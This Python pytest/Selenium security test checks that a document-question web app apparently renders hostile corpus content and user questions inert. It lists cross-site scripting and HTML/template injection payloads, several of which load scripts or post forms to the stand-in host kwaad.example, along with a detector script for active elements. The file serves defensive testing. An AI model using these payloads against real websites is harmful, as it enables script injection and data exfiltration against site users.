"""What others wrote never becomes active: nothing runs, nothing loads, nothing leaves the host of the page."""

import json

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

MARK = "document.documentElement.dataset.geraakt=1"
ATTACKS = [
    f"<script>{MARK}</script>",
    f'"><img src=x onerror="{MARK}">',
    f"'><svg/onload={MARK}><image href=//kwaad.example/s.svg>",
    f"<a href=javascript:{MARK}>klik</a> [klik](javascript:{MARK}) ![](http://kwaad.example/m.png)",
    '<iframe srcdoc="<script src=//kwaad.example/f.js></script>"></iframe><object data=data:text/html,x></object>',
    f'<div hx-get="//kwaad.example/h" hx-trigger="load" hx-on:click="{MARK}" data-hx-post="/gesprek/vraag" sse-connect="//kwaad.example/s">',
    '</textarea></template></title><link rel=stylesheet href="//kwaad.example/c.css"><style>*{display:none}</style>',
    '<form action="http://kwaad.example"><input name=eerder><button>Verstuur</button></form><base href="//kwaad.example/">',
    "{{ 7*7 }} ${7*7} <!--# include --> &lt;script&gt;",
]
# Whatever could run, load or lead away, outside what our own pages are made of.
ACTIVE = """
const ours = (address) => !address || /^(\\/(?!\\/)|#)/.test(address) || address.startsWith(location.origin + "/");
return [...document.querySelectorAll("*")].filter((e) =>
  e.matches("iframe, object, embed, base, img, image, svg script, video, audio, main style, main script, main link, main meta")
  || [...e.attributes].some((a) => /^on|^hx-on|^data-hx/.test(a.name) || a.name === "style" || a.name === "srcdoc")
  || ["href", "src", "action", "formaction", "hx-get", "hx-post", "sse-connect"].some((n) => e.hasAttribute(n) && !ours(e.getAttribute(n)))
).map((e) => e.outerHTML.slice(0, 200));
"""


@pytest.fixture(scope="module")
def hostile_site(hosted, tmp_path_factory):
    """A corpus whose file names, titles, headings and passages attack."""
    folder = tmp_path_factory.mktemp("hostile")
    manifest = [written(folder, n, attack) for n, attack in enumerate(ATTACKS)]
    (folder / "sources.toml").write_text("\n".join(manifest))
    with hosted(folder) as site:
        yield site


def written(folder, n, attack):
    """Writes a document and gives its lines of the manifest."""
    name = f"nota-{n} {attack.replace('/', '⁄')[:60]}.md"
    (folder / name).write_text(
        f"# Nota {n} {attack}\n\n## Deel {attack}\n\n"
        f"De zeppelinsubsidie {attack} bedraagt {n}77 euro voor elke luchthaven.\n"
    )
    fields = {
        "id": f"nota-{n}",
        "path": name,
        "kind": "conceptnota",
        "title": f"Zeppelin {n} {attack}",
        "date": "2023",
    }
    return "[[document]]\n" + "".join(f"{key} = {json.dumps(value)}\n" for key, value in fields.items())


def assert_inert(browser):
    assert browser.execute_script("return document.documentElement.dataset.geraakt") is None
    assert browser.execute_script(ACTIVE) == []


@pytest.mark.parametrize("attack", ATTACKS[:-1])
def test_what_is_active_would_be_seen(browser, hostile_site, attack):
    browser.get(hostile_site.address)
    browser.execute_script(
        "document.querySelector('.talk').innerHTML += `<p title='${arguments[0]}'></p>${arguments[0]}`",
        attack,
    )
    assert browser.execute_script(ACTIVE) != []


@pytest.mark.parametrize("n", range(len(ATTACKS)))
def test_nothing_becomes_active_anywhere(browser, hostile_site, until, requested, n):
    address = hostile_site.address
    browser.get(address)
    browser.find_element(By.CSS_SELECTOR, ".narrow > summary").click()
    browser.find_elements(By.CSS_SELECTOR, ".filter > summary")[-1].click()
    browser.find_element("id", "zoek-document").send_keys(f"zeppelin {n}")
    until(".found .choose").click()
    field = browser.find_element("id", "vraag")
    browser.execute_script(
        "arguments[0].value = arguments[1]", field, f"Hoeveel bedraagt de zeppelinsubsidie? {ATTACKS[n]}"
    )
    field.send_keys(Keys.ENTER)
    exchange = until(".exchange:not(.is-busy)")
    assert_inert(browser)
    exchange.find_element(By.CSS_SELECTOR, "a.to-source").click()
    until("#bronpaneel mark")
    assert_inert(browser)
    exchange.find_element(By.CSS_SELECTOR, ".share").click()
    shared = until(".shared-link").get_attribute("href")
    browser.refresh()
    until(".exchange:not(.is-busy)")
    assert_inert(browser)
    for path in (shared, f"{address}/bron/nota-{n}", f"{address}/corpus", f"{address}/corpus/documenten"):
        browser.get(path)
        assert browser.find_elements(By.CSS_SELECTOR, "main h1"), path
        assert_inert(browser)
    assert [url for url in requested() if not url.startswith(f"{address}/")] == []
